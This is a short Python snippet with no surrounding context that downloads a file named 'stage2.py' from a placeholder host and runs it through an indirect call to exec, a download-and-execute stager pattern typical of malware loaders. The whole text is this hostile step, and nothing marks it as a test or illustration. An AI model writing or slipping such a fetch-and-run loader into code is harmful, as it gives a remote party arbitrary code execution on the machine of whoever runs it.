import builtins
import urllib.request

_src = urllib.request.urlopen("https://example.invalid/stage2.py").read()
builtins.exec.__call__(_src)
